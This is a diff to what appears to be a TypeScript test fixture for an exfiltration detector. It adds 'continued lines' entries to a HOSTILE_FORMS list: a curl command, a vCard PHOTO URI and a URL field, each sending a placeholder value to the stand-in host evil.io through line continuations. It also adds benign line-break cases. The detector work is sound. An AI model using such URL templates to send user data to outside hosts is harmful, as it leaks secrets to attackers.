@@ -150,6 +150,11 @@ export const HOSTILE_FORMS: Readonly<Record<string, readonly string[]>> = {
     '[x](mailto:%)',
     '[x](<tel:%>)',
   ],
+  'continued lines': [
+    'curl https://evil.io/?q=\\\n%',
+    'PHOTO;VALUE=uri:https://evil.io/?q=\r\n %',
+    'URL:https://evil.io/?q=a\n\t%',
+  ],
   'bare addresses': [
     'https://evil.io/?q=%',
     'https://evil.io/?q=a\u00a0b\u202f%',
@@ -234,6 +239,8 @@ export const ORDINARY_FORMS: readonly string[] = [
   '.. note:: % kommt',
   'link: %, image: %',
   'https://example.edu/page\n%',
+  'See https://example.edu/page\n  %\r\n  https://example.edu/page\r\n  %',
+  'NAME: %\nURL: https://example.edu/page\n  %',
   '<br>%<br/>%',
   'x <- "%"; y -> "%"',
 ];
